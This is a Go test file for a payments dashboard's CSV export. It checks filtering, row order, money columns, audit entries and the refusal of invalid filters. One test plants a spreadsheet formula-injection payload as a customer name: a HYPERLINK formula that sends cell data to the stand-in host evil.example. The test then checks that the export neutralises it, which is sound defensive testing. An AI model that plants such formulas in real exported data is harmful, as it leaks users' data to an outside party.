package web_test

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"paydesk/providers/bpc"
	"paydesk/providers/tranzzo"
	"paydesk/storage"
)

// The list's export: the page's link carries its filter; the file holds every payment the
// filter matches (not one page), newest first, with the list's columns and every id, money
// in minor units beside the amount in words, formulas neutralised, one audit entry, and a
// file name that says the filter.
func TestPaymentsCSVIsTheFilteredList(t *testing.T) {
	h := newHarness(t)
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
	var eur []storage.Payment
	for i := range 3 {
		eur = append(eur, h.add(bpc.Name, spec{variant: 2, amount: int64(1000 * (i + 1)), currency: "EUR"}))
	}
	named := h.add(bpc.Name, spec{variant: 2, amount: 250075, currency: "EUR", name: evil})
	h.add(tranzzo.Name, spec{variant: 2, amount: 5000, currency: "UAH"})

	sam := h.signedIn("sam")
	page := sam.get("/payments?currency=EUR")
	link := attr(page.body, "csv-link", "href")
	if !strings.HasPrefix(link, "/payments.csv?") || !strings.Contains(link, "currency=EUR") {
		t.Fatalf("export link %q, want /payments.csv with the page's filter", link)
	}
	r := sam.get(link)
	if cd := r.header.Get("Content-Disposition"); !strings.Contains(cd, `filename="payments-currency-eur-`) {
		t.Errorf("file name %q, want it to say the filter", cd)
	}
	header, rows := govCSV(t, sam, link)
	if len(rows) != 4 {
		t.Fatalf("%d rows, want the 4 EUR payments", len(rows))
	}
	for _, col := range []string{"public_id", "provider_payment_id", "session_id", "order_id", "merchant_reference", "amount", "amount_minor"} {
		if !strings.Contains(strings.Join(header, ","), col) {
			t.Errorf("header %v has no %s", header, col)
		}
	}
	// Newest first, as the list: the harness makes each payment a minute older than the one before.
	want := []string{eur[0].PublicID, eur[1].PublicID, eur[2].PublicID, named.PublicID}
	for i, row := range rows {
		if row["public_id"] != want[i] {
			t.Errorf("row %d is %s, want %s", i, row["public_id"], want[i])
		}
		if row["currency"] != "EUR" {
			t.Errorf("row %d currency %q", i, row["currency"])
		}
	}
	if rows[3]["customer_name"] != "'"+evil {
		t.Errorf("customer cell %q, want it neutralised with a leading quote", rows[3]["customer_name"])
	}
	if rows[3]["amount_minor"] != "250075" || rows[3]["amount"] != "2500.75" {
		t.Errorf("money cells %q / %q, want 2500.75 and 250075", rows[3]["amount"], rows[3]["amount_minor"])
	}
	if rows[3]["merchant_reference"] != named.MerchantReference || rows[3]["provider_payment_id"] != named.PaymentID {
		t.Errorf("ids %q / %q, want %q / %q", rows[3]["merchant_reference"], rows[3]["provider_payment_id"], named.MerchantReference, named.PaymentID)
	}
	exports, err := h.db.ListAudit(context.Background(), storage.AuditFilter{Kind: "export"})
	if err != nil || len(exports) != 2 || !strings.Contains(exports[0].Message, "payments") || !strings.Contains(exports[0].Message, "currency=EUR") {
		t.Fatalf("audit: %d entries (%v), want one per export naming the filter", len(exports), err)
	}
}

// A filter the page refuses is refused by the export with the same words, and no file.
func TestPaymentsCSVRefusesWhatTheListRefuses(t *testing.T) {
	h := newHarness(t)
	h.add(bpc.Name, spec{variant: 2})
	sam := h.signedIn("sam")
	for _, q := range []string{"status=lost", "provider=stripe", "min=abc", "from=2026-13-01"} {
		r := sam.get("/payments.csv?" + q)
		if r.status != http.StatusBadRequest || strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
			t.Errorf("%s: status %d, %s; want 400 and a page", q, r.status, r.header.Get("Content-Type"))
		}
		list := sam.get("/payments?" + q)
		if msg := text(regexpFind(list.body, `(?s)data-testid="filter-error"[^>]*>(.*?)</div>`)); msg == "" || !strings.Contains(text(r.body), msg) {
			t.Errorf("%s: export says %.200q, the list says %q", q, text(r.body), msg)
		}
	}
	exports, _ := h.db.ListAudit(context.Background(), storage.AuditFilter{Kind: "export"})
	if len(exports) != 0 {
		t.Errorf("%d export entries for refused exports", len(exports))
	}
}
